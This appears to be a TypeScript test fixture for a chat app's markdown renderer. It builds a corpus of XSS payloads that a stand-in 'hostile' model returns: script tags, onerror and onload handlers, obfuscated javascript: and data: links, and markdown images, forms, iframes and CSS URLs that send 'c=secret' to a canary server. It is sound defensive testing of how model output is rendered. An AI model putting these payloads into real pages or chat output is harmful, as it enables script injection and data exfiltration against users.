// Hostile text, in one place: what a model (or a document, or a prompt someone wrote) might say to
// make the page run script, navigate, or send data to another origin. Every payload, if it ever did
// what it asks, leaves a mark the journey looks for: `window.__pwned` set, "PWNED" in the title, a
// dialog, or a request to the canary server (support/canary-server.ts), which listens on another
// loopback address so that any request reaching it has left our origin.
//
// Each line also says "Quillmoor canary payload", so a search for those words finds the hostile
// passages and Tessera Local quotes them in its overview.

/** The model on the loopback OpenAI-compatible server that answers with the corpus. */
export const HOSTILE_MODEL = "hostile-1";

/** What the browser would run; a string literal inside every payload below. */
const mark = (kind: string) => `window.__pwned='${kind}'`;

const SVG_ONLOAD = `<svg xmlns="http://www.w3.org/2000/svg" onload="${mark("data-svg")}"><script>${mark("data-svg-script")}</script></svg>`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** HTML that must show as literal text inside an inline code span. */
export const INLINE_CODE_HTML = `<script>${mark("inline-code")}</script>`;
/** HTML that must show as literal text inside a fenced code block. */
export const FENCED_CODE_HTML = `<img src=x onerror="${mark("fenced-code")}">`;

/** The whole corpus as markdown, its outside addresses on the canary server at `canary`. */
export function hostileCorpus(canary: string): string {
  const out = (kind: string) => `${canary}/${kind}?c=secret`;
  const lines = [
    "# Quillmoor canary ledger",
    "The Quillmoor canary ledger lists every payload below; none of them may run or reach another origin.",
    "",
    "## Raw HTML",
    `- Quillmoor canary payload script: <script>${mark("script")};document.title='PWNED script'</script>`,
    `- Quillmoor canary payload external script: <script src="${out("script-src")}"></script>`,
    `- Quillmoor canary payload image handler: <img src=x onerror="${mark("img-onerror")};alert('img-onerror')">`,
    `- Quillmoor canary payload outside image tag: <img src="${out("img-tag")}" alt="tag">`,
    `- Quillmoor canary payload svg script: <svg><script>${mark("svg-script")}</script></svg>`,
    `- Quillmoor canary payload svg onload: <svg onload="${mark("svg-onload")}"><circle r="4"/></svg>`,
    `- Quillmoor canary payload iframe: <iframe src="${out("iframe")}" srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
    `- Quillmoor canary payload form: <form action="${out("form")}"><input name="c" value="secret"><button formaction="javascript:${mark("formaction")}">Send</button></form>`,
    `- Quillmoor canary payload refresh: <meta http-equiv="refresh" content="0;url=${out("meta-refresh")}">`,
    `- Quillmoor canary payload html link: <a href="javascript:${mark("html-a")}">html javascript link</a> and <a href="${out("html-a")}">html outside link</a>`,
    `- Quillmoor canary payload style: <style>body{background:url(${out("css-url")})} @import url(${out("css-import")});</style>`,
    `- Quillmoor canary payload inline style: <div style="background-image:url(${out("inline-style")})">styled</div>`,
    `- Quillmoor canary payload embeds: <object data="${out("object")}"></object><embed src="${out("embed")}"><video poster="${out("poster")}"></video><link rel="stylesheet" href="${out("link-tag")}"><base href="${canary}/">`,
    `- Quillmoor canary payload focus: <details open ontoggle="${mark("ontoggle")}">x</details><input autofocus onfocus="${mark("onfocus")}">`,
    "",
    "",
    `<script>${mark("block-script")}</script>`,
    "",
    `<svg onload="${mark("block-svg")}"><script>${mark("block-svg-script")}</script></svg>`,
    "",
    `<iframe src="${out("block-iframe")}"></iframe>`,
    "",
    "## Markdown links",
    `- Quillmoor canary payload javascript link: [javascript link](javascript:${mark("md-js")})`,
    `- Quillmoor canary payload mixed case link: [mixed case link](JaVaScRiPt:${mark("md-case")})`,
    `- Quillmoor canary payload entity link: [entity link](&#106;&#97;vascript&colon;${mark("md-entity")})`,
    `- Quillmoor canary payload tab link: [tab link](<java\tscript:${mark("md-tab")}>)`,
    `- Quillmoor canary payload newline link: [newline link](java&#10;script:${mark("md-newline")})`,
    `- Quillmoor canary payload spaced link: [spaced link](<  javascript:${mark("md-space")}>)`,
    `- Quillmoor canary payload vbscript link: [vbscript link](vbscript:msgbox("pwned"))`,
    `- Quillmoor canary payload data html link: [data html link](data:text/html;base64,${base64(`<script>${mark("data-html")}</script>`)})`,
    `- Quillmoor canary payload data svg link: [data svg link](data:image/svg+xml;base64,${base64(SVG_ONLOAD)})`,
    `- Quillmoor canary payload reference link: [reference link][evil] and [outside reference link][away]`,
    `- Quillmoor canary payload autolinks: <javascript:${mark("autolink")}> and <${out("autolink")}> and www.quillmoor.invalid/x`,
    "",
    "## Markdown images",
    `- Quillmoor canary payload outside image: ![exfiltrated](${out("exfil")})`,
    `- Quillmoor canary payload protocol relative image: ![protocol relative](${canary.replace(/^https?:/, "")}/protocol-relative)`,
    `- Quillmoor canary payload proxied image: ![proxied](/api/image-proxy?url=${encodeURIComponent(out("proxy"))})`,
    `- Quillmoor canary payload backslash image: ![backslash](/\\${canary.replace(/^https?:\/\//, "")}/backslash)`,
    `- Quillmoor canary payload data svg image: ![data svg](data:image/svg+xml;base64,${base64(SVG_ONLOAD)})`,
    `- Quillmoor canary payload data html image: ![data html](data:text/html,<script>${mark("data-img")}</script>)`,
    `- Quillmoor canary payload javascript image: ![javascript image](javascript:${mark("img-js")})`,
    `- Quillmoor canary payload reference image: ![reference image][pic]`,
    "",
    "## Code",
    `Quillmoor canary payload inline code: \`${INLINE_CODE_HTML}\``,
    "",
    "```html",
    FENCED_CODE_HTML,
    `<script>document.title='PWNED fenced'</script>`,
    "```",
    "",
    "    <iframe src=\"javascript:parent.__pwned='indented-code'\"></iframe>",
    "",
    `| Quillmoor canary payload | cell |`,
    `| --- | --- |`,
    `| <img src=x onerror="${mark("table")}"> | [cell link](javascript:${mark("table-link")}) |`,
    "",
    `Quillmoor canary payload footnote[^1] and citation [1](javascript:${mark("citation")}).`,
    "",
    `[^1]: [footnote link](javascript:${mark("footnote")}) ![footnote image](${out("footnote-image")})`,
    "",
    `[evil]: javascript:${mark("reference-link")}`,
    `[away]: ${out("reference-link")}`,
    `[pic]: ${out("reference-image")}`,
  ];
  return lines.join("\n");
}

/** Short payloads for fields with small limits (a prompt's tags take 30 characters). */
export const SHORT_PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "[x](javascript:alert(1))",
  "<a href=javascript:alert(1)>",
];

/**
 * The corpus in stream chunks, each cut two characters into the next tag (or after 90 characters),
 * so the renderer sees `<sc` in one chunk and `ript>` in the next.
 */
export function streamChunks(text: string): string[] {
  const chunks: string[] = [];
  let start = 0;
  for (let i = 1; i < text.length; i++) {
    const midTag = text[i - 2] === "<" && i - start >= 24;
    if (midTag || i - start >= 90) {
      chunks.push(text.slice(start, i));
      start = i;
    }
  }
  chunks.push(text.slice(start));
  return chunks;
}
